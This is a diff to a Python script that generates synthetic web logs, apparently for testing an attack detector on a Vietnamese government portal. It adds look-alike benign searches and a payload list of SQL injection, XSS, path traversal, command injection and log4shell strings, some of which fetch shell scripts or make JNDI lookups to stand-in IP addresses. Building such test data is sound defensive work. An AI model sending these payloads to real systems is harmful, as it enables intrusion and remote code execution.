@@ -4,9 +4,13 @@
 bench/bench_scan.sh and the e2e tests.
 
 Normal traffic comes from thousands of addresses: page views, static files,
-searches whose words look like SQL ("select", "union", "or 1 ..."), a few 404s
-each, and officials who mistype their password once or twice before signing in.
-Attackers by category: scanner (probe paths answered 404), brute (POST
+searches whose words look like SQL or shell ("select", "union", "or 1 ...",
+quotes, "--", "&", "<="), a few 404s each and short bursts of them (pages with
+missing images), and officials who mistype their password one to three times
+before signing in.
+Attackers by category (payloads from public cheat sheets, including
+comment-spaced UNION, ORDER BY probing, ....// and backslash traversal, &&
+and || chains, ontoggle/onload handlers, jndi:dns): scanner (probe paths answered 404), brute (POST
 /dang-nhap answered 401 many times), sqli, xss, traversal, cmdi, log4shell,
 rate (floods of ordinary pages), and lowslow (two to four injection requests
 spread over several hours).
@@ -38,7 +42,12 @@ SEARCHES = ["dang ky ket hon", "select a product", "union of two dossiers", "cap
             "giay phep lai xe", "order by date", "insert into the form", "drop box nop ho so",
             "or 1 truong hop", "where is my dossier", "and or not", "thu tuc 'khai sinh'",
             "delete account", "update ho so", "tra cuu 100% online", "script lop hoc",
-            "alert mua lu", "cat giam thu tuc", "id the can cuoc", "tai file .zip bieu mau"]
+            "alert mua lu", "cat giam thu tuc", "id the can cuoc", "tai file .zip bieu mau",
+            # typed by people: quotes, dashes, signs and numbers that look like SQL or shell
+            "ho so 'dat dai' or 'nha o'", "mau so 01 or 02", "luong co so 1.800.000 + phu cap",
+            "thong tu 12/2024/TT-BTC", "ho so dat dai -- huong dan", "nguyen van a & tran thi b",
+            "cach tinh 1/2 thue", "o'neil visa", "ket qua <= 5 ngay", "sleep clinic dong nai",
+            "echo cardiogram bv da khoa", "cat tuong - bien hoa", "select 1 in 3 options"]
 UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0 Mobile Safari/537.36",
@@ -56,18 +65,24 @@ PAYLOADS = {
     "sqli": ["/tra-cuu-ho-so?ma=1%27%20OR%20%271%27%3D%271", "/tin-tuc?id=1+UNION+SELECT+username,password+FROM+users--",
              "/tin-tuc?id=1%20AND%20SLEEP(5)", "/hoi-dap?id=2'%20AND%20extractvalue(1,concat(0x7e,version()))--+",
              "/van-ban?id=1;%20DROP%20TABLE%20users--", "/api/thong-ke?nam=2024%27%20or%201=1--",
-             "/tin-tuc?id=-1%2527%2520union%2520select%2520null--"],
+             "/tin-tuc?id=-1%2527%2520union%2520select%2520null--",
+             "/hoi-dap?id=1%20ORDER%20BY%203--", "/tin-tuc?id=1%27%20AND%20%271%27%3D%271",
+             "/tra-cuu-ho-so?ma=1%22%20OR%20%22%22%3D%22", "/tin-tuc?id=1/**/UNION/**/SELECT/**/1,2,3"],
     "xss": ["/tim-kiem?q=%3Cscript%3Ealert(1)%3C/script%3E", "/hoi-dap?q=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E",
             "/lien-he?ten=%3Csvg/onload=alert(1)%3E", "/tim-kiem?q=javascript:alert(1)",
-            "/tim-kiem?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E"],
+            "/tim-kiem?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
+            "/tim-kiem?q=%3Cdetails%20open%20ontoggle=alert(1)%3E", "/hoi-dap?q=%3Cbody%20onload=alert(1)%3E"],
     "traversal": ["/bieu-mau/tai?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fshadow",
                   "/tai-ve?f=%2e%2e%2f%2e%2e%2fwindows%2fwin.ini", "/tai-ve?f=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
-                  "/index.php?page=php://filter/convert.base64-encode/resource=index"],
+                  "/index.php?page=php://filter/convert.base64-encode/resource=index",
+                  "/tai-ve?f=....//....//....//etc/passwd", "/bieu-mau/tai?file=..%5c..%5c..%5cwindows%5cwin.ini"],
     "cmdi": ["/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd", "/api/ping?ip=1.1.1.1%7Cid",
              "/tra-cuu?ma=$(wget%20http://203.0.113.250/x.sh)", "/tra-cuu?ma=%60whoami%60",
-             "/api/exec?c=;curl%20http://198.51.100.9/a%7Csh"],
+             "/api/exec?c=;curl%20http://198.51.100.9/a%7Csh",
+             "/api/ping?ip=127.0.0.1%26%26ping%20-c%2010%20127.0.0.1", "/api/ping?ip=%7C%7Cnslookup%20x.198.51.100.9.nip.io"],
     "log4shell": ["/?x=${jndi:ldap://198.51.100.7:1389/a}", "/tim-kiem?q=%24%7Bjndi%3Armi%3A%2F%2F198.51.100.7%2Fx%7D",
-                  "/?q=${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}", "/?q=${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}"],
+                  "/?q=${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}", "/?q=${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
+                  "/?q=%24%7Bjndi:dns://198.51.100.7/a%7D"],
 }
 
 
@@ -145,18 +160,27 @@ def gen(lines, seed):
         elif r < 0.93:
             q = urllib.parse.quote_plus(rnd.choice(SEARCHES))
             events.append((tt, line(ip, tt, "GET", "/tim-kiem?q=" + q, 200, 12000, ua)))
-        elif r < 0.96:
+        elif r < 0.955:
             events.append((tt, line(ip, tt, "GET", rnd.choice(RANDOM_404), 404, 162, ua)))
+        elif r < 0.96:
+            # a page whose images are missing: a short burst of 404s
+            for k in range(rnd.randrange(3, 9)):
+                events.append((tt, line(ip, tt, "GET", "/uploads/tin-tuc/anh-%d.jpg" % rnd.randrange(1000), 404, 162, ua,
+                                        "https://dichvucong.dongnai.gov.vn/tin-tuc")))
+                i += 1
+            i -= 1
         else:
             # sign-in: most succeed at once, some mistype once or twice first
-            for k in range(rnd.choice([0, 0, 0, 1, 2])):
+            for k in range(rnd.choice([0, 0, 0, 0, 0, 1, 1, 2, 2, 3])):
                 events.append((tt, line(ip, tt, "POST", "/dang-nhap", 401, 512, ua)))
                 tt += 8
                 i += 1
             events.append((tt, line(ip, tt, "POST", "/dang-nhap", 302, 0, ua)))
         i += 1
+    # bursts may overshoot by a few lines: drop the last ordinary ones (attacks come first)
+    events = events[:max(lines, len(events) - (i - remaining))]
     events.sort(key=lambda e: e[0])
-    return [e[1] for e in events[:max(lines, len(events))]], truth
+    return [e[1] for e in events], truth
 
 
 def main():
